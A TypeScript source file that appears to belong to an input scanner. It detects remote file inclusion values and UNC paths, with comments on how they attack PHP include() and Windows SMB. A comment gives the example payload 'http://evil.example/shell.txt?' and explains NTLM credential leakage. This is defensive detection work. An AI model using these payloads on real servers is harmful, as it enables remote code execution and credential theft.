/**
 * Remote file inclusion: the value is an http(s) or ftp(s) URL (or a protocol-relative `//host/…` one) to a file name with an extension, cut off
 * right after the name by one or more '?' ending the value, or by a NUL. `include($_GET['page'] . '.php')`
 * handed `http://evil.example/shell.txt?` fetches `shell.txt?.php` — the trailing '?' turns the suffix the
 * application appends into a query string (OWASP CRS 931120); a NUL drops it where the runtime truncates.
 * A link a person pastes has a query after its '?', or no file name (`/search?`), or is part of a sentence
 * (the value must open with the URL). Reads `src` (percent-decoded) once: linear.
 */
/** `//` last: a protocol-relative URL is an http(s) URL with the scheme of the page it is in. */
const SCHEMES = ['http://', 'https://', 'ftp://', 'ftps://', '//'];

function isExtChar(c: number): boolean { return (c >= 48 && c <= 57) || (c >= 97 && c <= 122) || (c >= 65 && c <= 90); }

export function remoteInclude(src: string): boolean {
  const head = src.slice(0, 8).toLowerCase();
  const scheme = SCHEMES.find((s) => head.startsWith(s));
  if (scheme === undefined) return false;
  // where the URL is cut: a NUL, else a run of '?' that ends the value
  let end = src.indexOf('\0');
  if (end < 0) {
    end = src.length;
    while (end > scheme.length && src.charCodeAt(end - 1) === 63) end--;
    if (end === src.length) return false;
  }
  // host, then a path whose last component is name.ext; no query, fragment or blank before the cut
  let lastSlash = -1;
  let firstSlash = -1;
  for (let i = scheme.length; i < end; i++) {
    const c = src.charCodeAt(i);
    if (c === 63 || c === 35 || c === 32 || c === 9 || c === 10 || c === 13) return false;
    if (c === 47) { if (firstSlash < 0) firstSlash = i; lastSlash = i; }
  }
  if (firstSlash <= scheme.length) return false;
  const dot = src.lastIndexOf('.', end - 1);
  if (dot <= lastSlash + 1 || end - dot - 1 < 1 || end - dot - 1 > 8) return false;
  for (let i = dot + 1; i < end; i++) if (!isExtChar(src.charCodeAt(i))) return false;
  return true;
}

function isHostChar(c: number): boolean { return isExtChar(c) || c === 46 || c === 45 || c === 95; }

/**
 * A value that is a UNC path: two separators (at least one a backslash; `//` alone is a protocol-relative
 * URL, above), a host name or address (a WebDAV `@SSL@443` suffix allowed), a backslash and a share name;
 * or the `\\?\UNC\host\share` long form. A Windows server's file APIs open it over SMB: PHP's include() runs
 * the remote file even with allow_url_include off (a path, not a URL), and any file read hands the host the
 * service account's NTLM credentials. Only a value that opens with one: a path named in a sentence is text.
 * Reads at most the host and the first character of the share: constant time. 0: not one; UNC_LOCAL: the
 * host is one label (`\\fileserver\share`: a NetBIOS name, which resolves only inside the server's own
 * network — the shape of a file-share field in enterprise JSON); UNC_REMOTE: a dotted name or an address.
 */
export const UNC_LOCAL = 1;
export const UNC_REMOTE = 2;

export function uncPath(src: string): 0 | typeof UNC_LOCAL | typeof UNC_REMOTE {
  const a = src.charCodeAt(0), b = src.charCodeAt(1);
  if (!((a === 92 && (b === 92 || b === 47)) || (a === 47 && b === 92))) return 0;
  let i = 2;
  if (src.charCodeAt(2) === 63 && src.charCodeAt(3) === 92 && src.slice(4, 8).toLowerCase() === 'unc\\') i = 8; // \\?\UNC\host\share
  const from = i;
  let dotted = false;
  while (i < src.length && i - from < 256 && (isHostChar(src.charCodeAt(i)) || src.charCodeAt(i) === 64)) {
    if (src.charCodeAt(i) === 46 || src.charCodeAt(i) === 64) dotted = true; // a dot, or a WebDAV @SSL@port
    i++;
  }
  if (i === from || !isExtChar(src.charCodeAt(from))) return 0;
  // the share: a backslash, then a name (not a blank, separator or the end)
  if (src.charCodeAt(i) !== 92) return 0;
  const c = src.charCodeAt(i + 1);
  if (!(i + 1 < src.length && c !== 92 && c !== 47 && c !== 32 && c !== 9 && c !== 10 && c !== 13)) return 0;
  return dotted ? UNC_REMOTE : UNC_LOCAL;
}
